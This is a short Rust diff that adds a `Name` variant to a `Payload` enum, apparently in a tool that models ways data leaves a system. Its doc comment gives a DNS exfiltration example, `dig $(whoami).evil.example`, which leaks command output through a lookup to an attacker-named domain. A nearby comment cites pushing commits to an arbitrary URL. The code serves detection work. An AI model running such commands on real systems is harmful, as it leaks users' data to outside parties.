@@ -331,6 +331,10 @@ pub enum Payload {
     /// The repository's commits, pushed to a URL named on the line instead of a configured
     /// remote (`git push https://host/x.git`).
     PushUrl(String),
+    /// A DNS name built from data (`dig $(whoami).evil.example`), looked up: the resolvers on
+    /// the way hand it to the servers of `domain`, whoever runs them, so the name is the
+    /// message.
+    Name { name: String, domain: String },
 }
 
 /// A local file a send carries.
